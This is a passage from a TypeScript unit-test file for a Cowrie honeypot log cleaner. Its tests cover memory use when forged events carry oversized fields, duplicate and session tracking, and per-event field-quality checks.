      assert.equal(cleaner.sessions.size, 0);
    });

    it("keeps little of a forged line's huge session id, sensor or uuid in its windows, and still knows a duplicate", () => {
      const forged = (i: number) => {
        const huge = String(i).repeat(64 * 1024);
        return cowrie2("cowrie.session.connect", i % 60, { src_port: 1, dst_ip: "10.0.0.2", dst_port: 22, session: `${huge}s`, sensor: `${huge}n`, uuid: `${huge}u`, protocol: `${huge}p` });
      };
      const kept = heapKeptBy(() => {
        for (let i = 0; i < 200; i++) clean(cleaner.clean(forged(i)));
      });
      assert.ok(kept < 5 * 2 ** 20, `${(kept / 2 ** 20).toFixed(1)} MB kept`);
      assert.equal(cleaner.clean(forged(7)).kind, "duplicate");
      assert.equal(cleaner.sessions.size, 200);
      const later = clean(cleaner.clean({ ...forged(7), eventid: "cowrie.login.failed", username: "root", password: "x", src_port: undefined, dst_port: undefined, timestamp: "2026-03-18T10:28:07.123456Z" }));
      assert.equal(later.dst_port, 22, "its session's connection is still filled in");
    });
  });

  describe("quality of each clean event", () => {
    it("counts the expected fields the sensor wrote and which checks found canonical form", () => {
      const full = cleaner.clean(cowrie2("cowrie.login.failed", 1, { username: "root", password: "x" }));
      assert.deepEqual(full.kind === "clean" && full.quality, { expectedFields: 5, writtenFields: 5, checks: { timestamp: true, ip: true } });
      const sparse = cleaner.clean({ eventid: "cowrie.login.failed", src_ip: "::ffff:203.0.113.9", timestamp: "2026-03-18T12:27:00+0200", username: "root" });
      assert.deepEqual(sparse.kind === "clean" && sparse.quality, { expectedFields: 5, writtenFields: 1, checks: { timestamp: false, ip: false } });
      const closed = cleaner.clean(cowrie2("cowrie.session.closed", 2, { duration: "0.4", src_port: "22" }));
      assert.deepEqual(closed.kind === "clean" && closed.quality.checks, { timestamp: true, port: false, ip: true, duration: false });
      const closed3 = cleaner.clean(cowrie2("cowrie.session.closed", 3, { duration_ms: 400, src_port: 22 }));
      assert.deepEqual(closed3.kind === "clean" && closed3.quality.checks, { timestamp: true, port: true, ip: true, duration: true });
    });
  });
});
